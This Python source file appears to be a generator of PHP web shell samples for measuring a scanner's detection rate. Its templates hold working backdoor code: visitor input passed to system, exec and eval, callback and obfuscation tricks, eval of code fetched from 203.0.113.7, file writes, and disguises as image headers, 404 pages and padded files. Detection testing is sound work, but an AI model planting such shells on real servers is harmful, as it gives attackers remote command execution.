"""Makes inert web shells of every make, to measure what is found. Text only; nothing is run.

What a shell is made of (where the visitor's word comes in, how it is disguised, how it is run, how
the whole is wrapped and written) is drawn anew for each sample, so a seed nobody has used before
gives combinations nobody has looked at. No sample of anybody else's is copied.

    python tools/webshell_mutations.py FOLDER [SEED] [COUNT]
"""

import random
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from webshell_mutations_other import OTHER
from webshell_spelling import Draw, encoded_source, source, spelled, word
from webshell_wrapping import commented, gated, jumping, packed


@dataclass(frozen=True, slots=True)
class Sample:
    """One made-up shell.

    Attributes:
        family: what its makers would call the trick. name: of the file. content: its bytes.
    """

    family: str
    name: str
    content: bytes


_COMMANDS = ("system", "exec", "shell_exec", "passthru", "popen", "proc_open")
_TAKING_ONE = ("system", "exec", "shell_exec", "passthru", "assert")


def _case(draw: Draw, name: str) -> str:
    return (
        "".join(draw.choice((each.upper(), each)) for each in name) if draw.random() < 0.3 else name
    )


def direct(draw: Draw) -> str:
    """The function is written out."""
    before, value = encoded_source(draw)
    name = _case(draw, draw.choice(("eval", "assert", *_COMMANDS)))
    slash = draw.choice(("", "", "\\")) if name.lower() != "eval" else ""
    at = (
        draw.choice(("", "@", "echo ", "print ", "die("))
        if name.lower() != "eval"
        else draw.choice(("", "@"))
    )
    end = ")" if at == "die(" else ""
    extra = {"popen": ",'r'", "proc_open": ",[['pipe','r'],['pipe','w']],$p"}.get(name.lower(), "")
    tail = draw.choice(("", ".' 2>&1'", '." 2>&1"')) if name.lower() in _COMMANDS else ""
    return f"{before}{at}{slash}{name}({value}{tail}{extra}){end};"


def backtick(draw: Draw) -> str:
    """The shell's own quotes."""
    name = "$" + word(draw)
    return f"{name}={source(draw)}; echo `{name}`;"


def variable_function(draw: Draw) -> str:
    """The function's name is disguised and called by a variable."""
    before, value = encoded_source(draw)
    name, function = "$" + word(draw), draw.choice(_TAKING_ONE)
    return draw.choice(
        (
            f"{before}{name}={spelled(draw, function)}; @{name}({value});",
            f"{before}({spelled(draw, function)})({value});",
            f"{before}{name}=array({spelled(draw, function)}); echo {name}[0]({value});",
            f"{before}$GLOBALS['{name[1:]}']={spelled(draw, function)}; ${{'{name[1:]}'}}({value});",
            f"define('{name[1:].upper()}',{spelled(draw, function)}); {before}"
            f"{name}=constant('{name[1:].upper()}'); {name}({value});",
            f"{before}${{'{name[1:]}x'}}={spelled(draw, function)}; {name}x({value});",
        )
    )


def named_by_visitor(draw: Draw) -> str:
    """The visitor names the function too."""
    name = "$" + word(draw)
    one, two = source(draw), source(draw)
    return draw.choice(
        (
            f"{name}={one}; {name}({two});",
            "$_GET['a']($_POST['b']);",
            f"call_user_func({one}, {two});",
            f"array_map({one}, array({two}));",
            f"{name}={one}; echo {name}({two}, $_GET['c']);",
            "extract($_REQUEST); $a($b);",
            f"parse_str($_SERVER['QUERY_STRING'], {name}); {name}['f']({name}['p']);",
            f"@array_filter([{two}], {one});",
            f"{name}=$_POST; {name}['x']({name}['y']);",
            "foreach($_POST as $k=>$v) $k($v);",
            f"if (isset({one})) {{{name}={one}; if (isset({name})) {name}({two});}}",
            "if (isset($_COOKIE['f'],$_COOKIE['p'])) array_map($_COOKIE['f'], array($_COOKIE['p']));",
            f"filter_var({two}, FILTER_CALLBACK, array('options'=>{one}));",
            f"preg_replace_callback('/.*/', {one}, {two});",
        )
    )


def callback(draw: Draw) -> str:
    """A function that calls others is handed the disguised one."""
    before, value = encoded_source(draw)
    function = draw.choice(("assert", "system", "passthru", "exec"))
    given = draw.choice((f"'{function}'", spelled(draw, function)))
    name = "$" + word(draw)
    return before + draw.choice(
        (
            f"call_user_func({given}, {value});",
            f"call_user_func_array({given}, array({value}));",
            f"array_map({given}, array({value}));",
            f"array_filter(array({value}), {given});",
            f"{name}=array({value}, 1); usort({name}, {given});",
            f"{name}=array({value}=>1, 'x'=>2); uksort({name}, {given});",
            f"{name}=[{value}]; array_walk({name}, {given});",
            f"array_reduce([1], {given}, {value});",
            f"register_shutdown_function({given}, {value});",
            f"(new ReflectionFunction({given}))->invoke({value});",
            f"{name}=new ReflectionFunction({given}); {name}->invokeArgs([{value}]);",
            f"array_udiff([{value}], [1], {given});",
            f"iterator_apply(new ArrayIterator([1]), {given}, [{value}]);",
            f"forward_static_call({given}, {value});",
            f"{name}=Closure::fromCallable({given}); {name}({value});",
            f"{name}=fn($x)=>({given})($x); {name}({value});",
            f"array_walk_recursive([[{value}]], {given});",
            f"array_diff_ukey([{value}=>1], ['a'=>1], {given});",
        )
    )


def old_ways(draw: Draw) -> str:
    """What PHP 5 offered."""
    before, value = encoded_source(draw)
    end = draw.choice(("/e", "/ie", "#e", "/isex"))
    start = "#" if end[0] == "#" else "/"
    return before + draw.choice(
        (
            f"preg_replace('{start}.*{end}', {value}, '');",
            f"@preg_replace('{start}x{end}', 'eval('.{value}.')', 'x');",
            f"$f=create_function('', {value}); $f();",
            f"$f=@create_function('$x', 'return '.{value}.';'); $f(1);",
            f"mb_ereg_replace('.*', {value}, '', 'e');",
            f"assert({value});",
            f"array_map(create_function('', {value}), ['x']);",
        )
    )


def function_wrapped(draw: Draw) -> str:
    """A function or a class stands between."""
    before, value = encoded_source(draw)
    one, two, three = word(draw, 5), word(draw, 6), word(draw, 4)
    function = draw.choice(_TAKING_ONE)
    run = draw.choice((f"{function}($x)", "eval($x)", f"({spelled(draw, function)})($x)"))
    return draw.choice(
        (
            f"function {one}($x){{return {run};}} {before}echo {one}({value});",
            f"class {two}{{public ${three}; function __construct($a){{$this->{three}=$a;}}"
            f" function __destruct(){{$x=$this->{three}; {run};}}}} {before}new {two}({value});",
            f"class {two}{{static function {one}($x){{return {run};}}}} {before}{two}::{one}({value});",
            f"class {two}{{function {one}($x){{{run};}}}} {before}$o=new {two}; $o->{one}({value});",
            f"$f=function($x){{return {run};}}; {before}$f({value});",
            f"{before}$v={value}; $f=function() use ($v){{$x=$v; {run};}}; $f();",
            f"class {two}{{function __invoke($x){{{run};}}}} {before}$o=new {two}(); $o({value});",
            f"class {two}{{function __call($n,$a){{$x=$a[0]; {run};}}}} {before}(new {two})->any({value});",
            f"class {two}{{static $p; static function {one}(){{$x=self::$p; {run};}}}}"
            f" {before}{two}::$p={value}; {two}::{one}();",
            f"trait T{two}{{function {one}($x){{{run};}}}} class {two}{{use T{two};}} {before}(new {two})->{one}({value});",
            f"class {two}{{function __set($n,$x){{{run};}}}} {before}$o=new {two}; $o->{three}={value};",
            f"{before}(new class{{function r($x){{{run};}}}})->r({value});",
            f"function {one}($x){{return {two}1($x);}} function {two}1($x){{return {run};}} {before}{one}({value});",
            f"class {two}{{private $q=''; public function __toString(){{$x=$this->q; {run}; return '';}}"
            f" public function s($v){{$this->q=$v; return $this;}}}} {before}echo (new {two})->s({value});",
        )
    )


def loading(draw: Draw) -> str:
    """Code is loaded instead of evaluated."""
    before, value = encoded_source(draw)
    name = word(draw, 5)
    return before + draw.choice(
        (
            f"include 'data://text/plain;base64,'.base64_encode({value});",
            f"include('data:text/plain,'.{value});",
            f"require {source(draw)};",
            "include('php://input');",
            f"@include_once $_FILES['{name}']['tmp_name'];",
            f"file_put_contents('{name}.php', {value}); include '{name}.php';",
            f"$f=tmpfile(); fwrite($f, {value}); include stream_get_meta_data($f)['uri'];",
            f"$n='./{name}_'.mt_rand().'.tmp'; file_put_contents($n, {value}); include_once $n;",
            f"error_log({value}, 3, '/tmp/{name}.log'); include '/tmp/{name}.log';",
            f"$t=tempnam('/tmp','x'); file_put_contents($t, {value}); include $t;"
            f" file_put_contents('/tmp/{name}.php', {value});",
            f"eval(file_get_contents('http://203.0.113.7/{name}.txt'));",
            f"include 'http://203.0.113.7/{name}';",
            "$c=curl_init('http://203.0.113.7/'); curl_setopt($c,19913,1); eval(curl_exec($c));",
            f"@include '{name}/logo.png';",
            f'@include "\\x2ftm\\x70/.{name}.ico";',
        )
    )


def writing(draw: Draw) -> str:
    """A file is written as the visitor says."""
    one, two = source(draw), source(draw)
    return draw.choice(
        (
            f"file_put_contents({one}, {two});",
            f"$h=fopen({one},'w'); fwrite($h,{two}); fclose($h);",
            f"$n={one}; $d={two}; @file_put_contents($n,base64_decode($d));",
            f"fputs(fopen('{word(draw, 5)}.php','w'),{two});",
            "copy($_POST['u'],$_POST['n']);",
            "file_put_contents($_GET['n'], file_get_contents($_GET['u']));",
        )
    )


def bare_symbols(draw: Draw) -> str:
    """Neither letters nor digits: counted up from `Array`."""
    out = ["$_=[].'';$__=$_['!'=='@'];"]
    name = draw.choice(("ASSERT", "SYSTEM", "PASSTHRU", "EXEC"))
    pieces: list[str] = []
    for position, each in enumerate(name):
        variable = "$" + "_" * (position + 4)
        out.append(f"{variable}=$__;" + f"{variable}++;" * (ord(each) - ord("A")))
        pieces.append(variable)
    target = "$" + "_" * 20
    out.append(f"{target}={'.'.join(pieces)};")
    super_ = "".join("_" if each == "_" else each for each in "_POST")
    made = []
    for position, each in enumerate(super_[1:]):
        variable = "$" + "_" * (position + 30)
        out.append(f"{variable}=$__;" + f"{variable}++;" * (ord(each) - ord("A")))
        made.append(variable)
    out.append(f"$_0='_'.{'.'.join(made)};{target}($$_0[_]);")
    return "".join(out)


PLAIN: dict[str, Callable[[Draw], str]] = {
    "direct": direct,
    "backtick": backtick,
    "variable_function": variable_function,
    "named_by_visitor": named_by_visitor,
    "callback": callback,
    "old_ways": old_ways,
    "function_wrapped": function_wrapped,
    "loading": loading,
    "writing": writing,
    "bare_symbols": bare_symbols,
}


_FILLER = """
/** Settings of the site. */
class Options {
    private $values = array('title' => 'Shop', 'lines' => 20, 'colour' => 'blue');
    public function get($name) { return isset($this->values[$name]) ? $this->values[$name] : null; }
    public function all() { ksort($this->values); return $this->values; }
}
function format_price($amount, $sign = '$') { return $sign . number_format($amount, 2); }
$options = new Options();
if ($options->get('lines') > 10) { $page = max(1, (int) 3); }
"""


def written(draw: Draw, code: str) -> tuple[str, bytes]:
    """A file of the code: tags, company, and the trick's name."""
    raw = code.encode("latin-1", "replace")
    kind = draw.choice(
        (
            "tag",
            "tag",
            "tag",
            "short",
            "script",
            "echo",
            "filler",
            "image",
            "padded",
            "html",
            "crlf",
        )
    )
    if "namespace" in code or "<<<" in code:
        kind = "tag"
    if kind == "short":
        return kind, b"<? " + raw + b" ?>"
    if kind == "script":
        return kind, b'<script language="php">' + raw + b"</script>"
    if kind == "echo" and code.count(";") == 1 and code[:2] not in ("if", "do", "tr", "sw", "go"):
        return kind, b"<?=" + raw.replace(b"echo ", b"").replace(b"print ", b"").rstrip(
            b";"
        ) + b"?>"
    if kind == "filler":
        return kind, b"<?php" + _FILLER.encode() * draw.randint(
            1, 6
        ) + raw + b"\n" + _FILLER.replace("class Options", "class Choices").replace(
            "format_price", "show_price"
        ).encode()
    if kind == "image":
        head = draw.choice(
            (
                b"GIF89a\x01\x00\x01\x00",
                b"\xff\xd8\xff\xe0\x00\x10JFIF\0",
                b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
            )
        )
        return kind, head + draw.randbytes(60).replace(b"<", b".") + b"\n<?php " + raw + b" ?>"
    if kind == "padded":
        return kind, b"<?php " + b" " * 3000 + b"/*" + b"x" * 60000 + b"*/" + raw
    if kind == "html":
        return (
            kind,
            b"<!DOCTYPE html><html><body><h1>404</h1>\n<?php " + raw + b" ?>\n</body></html>",
        )
    end = b"\r\n" if kind == "crlf" else b" "
    return kind, b"<?php" + end + raw


def php_sample(draw: Draw, family: str) -> Sample:
    """One PHP shell of a family."""
    code = PLAIN[family](draw)
    tricks = [family]
    for trick, change, chance in (
        ("gated", gated, 0.3),
        ("jumping", jumping, 0.2),
        ("commented", commented, 0.25),
    ):
        if draw.random() < chance and not (trick == "jumping" and "class " in code):
            code = change(draw, code)
            tricks.append(trick)
    if family != "bare_symbols" and draw.random() < 0.15:
        code = packed(draw, code, draw.randint(1, 3))
        tricks.append("packed")
    kind, content = written(draw, code)
    ending = {"image": draw.choice((".php", ".gif", ".jpg"))}.get(
        kind, draw.choice((".php", ".phtml", ".inc", ".php5"))
    )
    return Sample(family, f"{word(draw, 6)}-{'-'.join((*tricks[1:], kind))}{ending}", content)


def samples(seed: int, count: int) -> list[Sample]:
    """As many samples, of all families in turn."""
    draw = random.Random(seed)  # noqa: S311 — for variety, not for secrecy
    families = [*PLAIN, "packed", *OTHER]
    made: list[Sample] = []
    for number in range(count):
        family = families[number % len(families)]
        if family in OTHER:
            name, text = OTHER[family](draw)
            made.append(Sample(family, name, text.encode("utf-8", "surrogateescape")))
        elif family == "packed":
            inner = PLAIN[
                draw.choice(("direct", "variable_function", "callback", "function_wrapped"))
            ](draw)
            content = written(draw, packed(draw, inner, draw.randint(1, 5)))[1]
            made.append(Sample("packed", f"{word(draw, 6)}.php", content))
        else:
            made.append(php_sample(draw, family))
    return made


def main() -> None:
    """Write samples into a folder."""
    folder = Path(sys.argv[1])
    seed = int(sys.argv[2]) if len(sys.argv) > 2 else 1
    for number, each in enumerate(samples(seed, int(sys.argv[3]) if len(sys.argv) > 3 else 300)):
        (folder / each.family).mkdir(parents=True, exist_ok=True)
        (folder / each.family / f"{number:04}-{each.name}").write_bytes(each.content)


if __name__ == "__main__":
    main()
